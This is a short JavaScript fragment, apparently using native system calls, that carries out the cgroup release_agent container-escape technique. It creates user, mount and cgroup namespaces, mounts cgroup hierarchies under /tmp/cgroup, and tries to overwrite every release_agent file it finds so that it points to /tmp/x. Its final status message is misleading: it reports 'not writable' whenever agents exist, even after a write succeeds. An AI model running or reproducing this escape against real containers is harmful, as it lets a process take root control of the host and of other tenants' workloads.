const text = s => memory(Buffer.from(s + "\0"));
say("user namespace", call("unshare", 0x10000000 | 0x20000 | 0x2000000));
fs.mkdirSync("/tmp/cgroup");
for (const kind of ["cgroup", "rdma"]) say(kind, call("mount", text("cgroup"), text("/tmp/cgroup"), text("cgroup"), 0, text(kind)));
const agents = fs.readdirSync("/sys/fs/cgroup", { recursive: true }).filter(p => p.endsWith("release_agent"));
for (const agent of agents) {
  try {
    fs.writeFileSync("/sys/fs/cgroup/" + agent, "/tmp/x");
    console.log("wrote", agent);
  } catch {}
}
console.log("release_agent:", agents.length ? "not writable" : "none");
